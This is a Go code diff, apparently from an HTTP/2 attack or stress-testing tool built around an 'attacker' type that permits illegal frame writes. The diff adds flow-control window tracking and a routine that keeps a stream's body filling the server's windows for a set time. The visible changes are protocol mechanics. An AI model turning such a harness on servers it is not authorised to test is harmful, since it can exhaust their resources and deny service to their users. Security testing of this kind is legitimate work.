@@ -25,6 +25,53 @@ type h2Conn struct {
 	block    bytes.Buffer  // what encoder writes
 	next     uint32        // stream
 	answered chan struct{} // closed when the server has answered anything, or ended the connection
+	windows  *windows
+}
+
+// windows are what a server takes, of the connection and of each stream.
+type windows struct {
+	mu      sync.Mutex
+	initial int64            // of a stream
+	sent    map[uint32]int64 // less what has been given back; 0 is the connection
+	changed chan struct{}    // closed and replaced when there is more room
+}
+
+const firstWindow = 65_535 // RFC 9113, section 6.9.2
+
+func newWindows() *windows {
+	return &windows{initial: firstWindow, sent: make(map[uint32]int64), changed: make(chan struct{})}
+}
+
+// note reads what a frame of the server gives back.
+func (w *windows) note(f http2.Frame) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	switch f := f.(type) {
+	case *http2.SettingsFrame:
+		if initial, ok := f.Value(http2.SettingInitialWindowSize); ok {
+			w.initial = int64(initial)
+		}
+	case *http2.WindowUpdateFrame:
+		w.sent[f.StreamID] -= int64(f.Increment)
+	default:
+		return
+	}
+	close(w.changed)
+	w.changed = make(chan struct{})
+}
+
+// take takes up to n bytes of the windows of a stream and of the connection. If there is no room, it
+// returns a channel that is closed when there may be more.
+func (w *windows) take(id uint32, n int64) (int64, <-chan struct{}) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	n = min(n, w.initial-w.sent[id], firstWindow-w.sent[0])
+	if n <= 0 {
+		return 0, w.changed
+	}
+	w.sent[id] += n
+	w.sent[0] += n
+	return n, nil
 }
 
 // errNoHTTP2 means that the server offers HTTP/1.1 alone.
@@ -45,7 +92,7 @@ func (a *attacker) dialHTTP2(ctx context.Context, token string, settings ...http
 		return nil, errNoHTTP2
 	}
 	c := &h2Conn{attacker: a, token: token, conn: conn, out: bufio.NewWriterSize(conn, 64<<10), next: 1,
-		answered: make(chan struct{})}
+		answered: make(chan struct{}), windows: newWindows()}
 	c.Framer = http2.NewFramer(c.out, bufio.NewReader(conn))
 	c.AllowIllegalWrites = true
 	c.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
@@ -108,6 +155,7 @@ func (c *h2Conn) read() {
 		if err != nil {
 			return
 		}
+		c.windows.note(f)
 		switch f := f.(type) {
 		case *http2.MetaHeadersFrame:
 			answered()
@@ -149,6 +197,33 @@ func (c *h2Conn) encodeAll(fields ...string) []byte {
 // head sends HEADERS. ended means that no body follows, whole that no CONTINUATION does.
 func (c *h2Conn) head(id uint32, block []byte, ended, whole bool) error {
 	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: ended, EndHeaders: whole})
+}
+
+// body sends n bytes of a stream's body, as far as the server's windows allow it within a time.
+func (c *h2Conn) body(ctx context.Context, id uint32, n int64, most time.Duration) error {
+	late := time.NewTimer(most)
+	defer late.Stop()
+	for n > 0 {
+		some, more := c.windows.take(id, min(n, 16<<10))
+		if some > 0 {
+			n -= some
+			if err := c.WriteData(id, false, bytes.Repeat([]byte(" "), int(some))); err != nil {
+				return err
+			}
+			continue
+		}
+		if err := c.flush(); err != nil {
+			return err
+		}
+		select {
+		case <-more:
+		case <-late.C:
+			return nil
+		case <-ctx.Done():
+			return nil
+		}
+	}
+	return nil
 }
 
 // ask opens a stream with a request, and returns the stream. ended means that it has no body.
